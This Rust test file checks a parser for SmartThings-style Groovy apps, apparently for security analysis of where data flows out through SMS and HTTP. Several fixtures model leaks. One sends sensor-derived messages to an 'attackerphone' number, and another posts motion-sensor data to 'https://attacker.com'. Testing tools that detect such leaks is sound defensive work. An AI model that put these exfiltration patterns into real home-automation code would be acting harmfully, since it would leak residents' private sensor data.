use super::*;

const LISTING_APP: &str = r#"definition(
  name: "SmartApp",
   //.....
)

preferences {
  section("Turn on when motion detected:"){
    input "themotion", "capability.motionSensor",
        required: true, title: "Where?"
  }
}


def installed() {
  initialize()
}

def updated() {
  unsubscribe()
  initialize()
}

def initialize() {
}
"#;

#[test]
fn parses_app_structure() {
    let model = parse(LISTING_APP).unwrap();
    let defs = model
        .items()
        .iter()
        .filter(|i| matches!(i, Item::Definition { .. }))
        .count();
    assert_eq!(defs, 1);
    let prefs: Vec<_> = model
        .items()
        .iter()
        .filter_map(|i| match i {
            Item::Preferences(p) => Some(p),
            _ => None,
        })
        .collect();
    assert_eq!(prefs.len(), 1);
    assert_eq!(prefs[0].inputs.len(), 1);
    let names: Vec<_> = model.functions().map(|f| f.name.as_str()).collect();
    assert_eq!(names, ["installed", "updated", "initialize"]);
}

#[test]
fn empty_input_is_rejected() {
    assert!(matches!(parse(""), Err(ParseError::EmptyInput)));
}

#[test]
fn unknown_constructs_round_trip() {
    let src = "@Field def THING = 7\n\nmappings {\n  path(\"/x\") { action: [GET: \"listSwitches\"] }\n}\n\ndef handler(evt) {\n  doSomething(evt)\n}\n";
    let model = parse(src).unwrap();
    assert_eq!(emit(&model), src);
    assert_eq!(model.functions().count(), 1);
}

#[test]
fn round_trip_is_byte_exact() {
    let model = parse(LISTING_APP).unwrap();
    assert_eq!(emit(&model), LISTING_APP);
}

#[test]
fn inputs_in_declaration_order() {
    let src = r#"preferences {
  section("When all of these people leave home") {
    input "people", "capability.presenceSensor", multiple: true
  }
}

def eventHandler(evt) {
}
"#;
    let model = parse(src).unwrap();
    let inputs = model.inputs();
    assert_eq!(inputs.len(), 1);
    assert_eq!(inputs[0].name, "people");
    assert_eq!(inputs[0].capability, "capability.presenceSensor");
}

#[test]
fn app_without_preferences_has_no_inputs() {
    let model = parse("def installed() {\n}\n").unwrap();
    assert!(model.inputs().is_empty());
}

#[test]
fn multiple_sections_keep_file_order() {
    let src = r#"preferences {
  section("one") {
    input "a", "capability.switch"
    input "b", "capability.lock"
  }
  section("two") {
    input("c", "capability.motionSensor")
  }
  section("three") {
    input "d", "text", title: "Phone"
  }
}
"#;
    let model = parse(src).unwrap();
    let names: Vec<_> = model.inputs().into_iter().map(|i| i.name).collect();
    assert_eq!(names, ["a", "b", "c", "d"]);
    // Independent oracle: count textual occurrences of input declarations.
    let scanned = src.matches("input \"").count() + src.matches("input(\"").count();
    assert_eq!(names.len(), scanned);
}

#[test]
fn finds_sms_sink_with_payload_variable() {
    let src = r#"def eventHandler(evt) {
  def messages = "new event"
  sendSMS("1111111111", messages)
}
"#;
    let model = parse(src).unwrap();
    let sinks = model.sinks(SinkKind::Sms);
    assert_eq!(sinks.len(), 1);
    assert_eq!(sinks[0].function, "eventHandler");
    assert_eq!(sinks[0].payload.as_ident(), Some("messages"));
}

#[test]
fn app_without_sinks_yields_empty() {
    let model = parse("def installed() {\n  initialize()\n}\n").unwrap();
    assert!(model.sinks(SinkKind::Sms).is_empty());
    assert!(model.sinks(SinkKind::Push).is_empty());
    assert!(model.sinks(SinkKind::Http).is_empty());
}

#[test]
fn finds_http_sink_inside_try() {
    let src = r#"def poster() {
  def takeParams = [uri: "https://example.org", body: ["massage": "hi"]]
  try {
    httpPost(takeParams) { resp ->
      log.debug "posted"
    }
  } catch (Exception e) {
    log.error "Unexpected exception", e
  }
}
"#;
    let model = parse(src).unwrap();
    let sinks = model.sinks(SinkKind::Http);
    assert_eq!(sinks.len(), 1);
    assert_eq!(sinks[0].payload.as_ident(), Some("takeParams"));
}

#[test]
fn branch_with_else_is_listed() {
    let src = r#"def device(d, name) {
  if (!d)
    httpError(404, "Device not found")
  else
    device(d, name)
}
"#;
    let model = parse(src).unwrap();
    let branches = model.branches();
    assert_eq!(branches.len(), 1);
    assert!(branches[0].has_else);
    assert!(!branches[0].else_is_if);
}

#[test]
fn straight_line_app_has_no_branches() {
    let model = parse("def run() {\n  doIt()\n}\n").unwrap();
    assert!(model.branches().is_empty());
}

#[test]
fn nested_ifs_outer_first() {
    let src = r#"def check(evt) {
  if (evt.value == "on") {
    if (state.armed) {
      alert()
    }
  }
}
"#;
    let model = parse(src).unwrap();
    let branches = model.branches();
    assert_eq!(branches.len(), 2);
    assert!(branches[0].span.contains(branches[1].span));
    assert!(!branches[0].has_else);
}

#[test]
fn clonable_call_requires_local_definition() {
    let src = r#"def validateCommand(device, deviceType, command) {
  def capabilityCommands = getDeviceCapabilityCommands(deviceType)
  return capabilityCommands
}

def getDeviceCapabilityCommands(deviceCapabilities) {
  def map = [:]
  deviceCapabilities.collect {
    map[it.name] = it.commands.collect{it.name.toString()}
  }
  return map
}
"#;
    let model = parse(src).unwrap();
    let calls = model.clonable_calls();
    assert_eq!(calls.len(), 1);
    assert_eq!(calls[0].callee, "getDeviceCapabilityCommands");
    assert_eq!(calls[0].target, "capabilityCommands");
    assert_eq!(calls[0].arg_count, 1);
}

#[test]
fn platform_calls_are_not_clonable() {
    let src = "def installed() {\n  def x = now()\n}\n";
    let model = parse(src).unwrap();
    assert!(model.clonable_calls().is_empty());
}

#[test]
fn two_qualifying_assignments_in_file_order() {
    let src = r#"def a() {
  def first = helper(1)
  def second = helper(2)
}

def helper(n) {
  return n
}
"#;
    let model = parse(src).unwrap();
    let calls = model.clonable_calls();
    assert_eq!(calls.len(), 2);
    assert_eq!(calls[0].target, "first");
    assert_eq!(calls[1].target, "second");
}

#[test]
fn lifecycle_lookup() {
    let model = parse(LISTING_APP).unwrap();
    assert!(model.lifecycle_fn("installed").is_some());
    let no_updated = parse("def installed() {\n}\n").unwrap();
    assert!(no_updated.lifecycle_fn("updated").is_none());
}

#[test]
fn duplicate_definitions_keep_first() {
    let src = "def updated() {\n  one()\n}\n\ndef updated(x) {\n  two()\n}\n";
    let model = parse(src).unwrap();
    let f = model.lifecycle_fn("updated").unwrap();
    assert_eq!(f.arity(), 0);
    assert_eq!(model.functions_named("updated").len(), 2);
}

#[test]
fn unbalanced_brace_fails() {
    assert!(matches!(
        parse("def installed() {\n"),
        Err(ParseError::UnbalancedDelimiter(_))
    ));
    assert!(parse("def x() { } }").is_err());
}

#[test]
fn query_results_are_deterministic() {
    let m1 = parse(LISTING_APP).unwrap();
    let m2 = parse(LISTING_APP).unwrap();
    assert_eq!(m1.inputs().len(), m2.inputs().len());
    assert_eq!(
        m1.branches().iter().map(|b| b.span).collect::<Vec<_>>(),
        m2.branches().iter().map(|b| b.span).collect::<Vec<_>>()
    );
}

#[test]
fn span_soundness_for_statements() {
    let src = r#"def presence(evt) {
  def messages = "Random"
  def attackerphone = "11111111111"
  if (people == 0) {
    messages = "${people}"
  } else {
    messages = "Random"
  }
  sendSms(attackerphone, messages)
}
"#;
    let model = parse(src).unwrap();
    let f = model.first_function().unwrap();
    assert_eq!(f.body.stmts.len(), 4);
    for s in &f.body.stmts {
        let text = s.span().slice(src);
        assert!(!text.trim().is_empty());
        assert_eq!(text, &src[s.span().start..s.span().end]);
    }
    let Stmt::If(ifs) = &f.body.stmts[2] else {
        panic!("expected if statement, got {:?}", f.body.stmts[2]);
    };
    assert_eq!(ifs.cond.slice(src), "people == 0");
    assert!(ifs.else_branch.is_some());
    let Stmt::Call { call, .. } = &f.body.stmts[3] else {
        panic!("expected sink call");
    };
    let Expr::Call { name, args, .. } = call else {
        panic!("expected call expr");
    };
    assert_eq!(name, "sendSms");
    assert_eq!(args.len(), 2);
}

#[test]
fn braceless_if_else_branches() {
    let src = "def f() {\n  if (x)\n    message = \"${presence}\"\n  else\n    message = \"benign info\"\n}\n";
    let model = parse(src).unwrap();
    let f = model.first_function().unwrap();
    let Stmt::If(ifs) = &f.body.stmts[0] else {
        panic!("expected if");
    };
    assert!(!ifs.then_branch.braced);
    assert_eq!(ifs.then_branch.stmts.len(), 1);
    assert_eq!(ifs.else_branch.as_ref().unwrap().stmts.len(), 1);
}

#[test]
fn map_literal_entries() {
    let src = r#"def f() {
  def takeParams = [ uri: "https://attacker.com", path: "",
      requestContentType: "application/x-www-form-urlencoded",
      body: [ "massage": "${motion1}" ] ]
}
"#;
    let model = parse(src).unwrap();
    let f = model.first_function().unwrap();
    let Stmt::Decl { value, .. } = &f.body.stmts[0] else {
        panic!("expected decl");
    };
    let Expr::Map { entries, .. } = value else {
        panic!("expected map, got {value:?}");
    };
    assert_eq!(entries.len(), 4);
    assert_eq!(entries[3].key, "body");
    let Expr::Map {
        entries: body_entries,
        ..
    } = &entries[3].value
    else {
        panic!("expected nested map");
    };
    assert_eq!(body_entries.len(), 1);
    assert_eq!(body_entries[0].key, "massage");
    let Expr::Str { segments, .. } = &body_entries[0].value else {
        panic!("expected string payload");
    };
    assert_eq!(segments.len(), 1);
    assert_eq!(segments[0].inner.slice(src), "motion1");
}
